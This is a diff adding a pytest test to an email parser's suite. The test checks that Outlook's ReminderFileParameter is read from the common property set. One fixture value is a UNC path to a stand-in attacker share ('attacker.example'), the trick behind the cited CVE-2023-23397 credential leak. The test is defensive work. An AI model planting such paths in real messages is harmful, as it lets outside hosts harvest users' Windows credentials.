@@ -125,6 +125,19 @@ def test_msg_without_transport_headers_keeps_subject_and_body() -> None:
     assert "quick brown fox" in message.text_bodies[0].text
 
 
+def test_msg_reminder_sound_is_read_from_the_common_property_set(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Outlook's ReminderFileParameter (a UNC path there is CVE-2023-23397) lives in PSETID_Common. The set
+    was imported from a module extract-msg does not have, so the property was never read (found by mypy)."""
+    from extract_msg.msg_classes.msg import MSGFile
+
+    def named(self: MSGFile, name: str, guid: str, default: object = None) -> object:
+        hit = (name, guid) == ("851F", "{00062008-0000-0000-C000-000000000046}")
+        return "\\\\attacker.example\\share\\ding.wav" if hit else default
+
+    monkeypatch.setattr(MSGFile, "getNamedProp", named)
+    assert load(MSG / "quick.msg").extra["reminder_file_parameter"] == "\\\\attacker.example\\share\\ding.wav"
+
+
 def test_msg_embedded_message_and_attachments() -> None:
     message = load(MSG / "attachment_msg_pdf.msg")
     assert [n.subject for n in message.nested] == ["Test Attachment"]
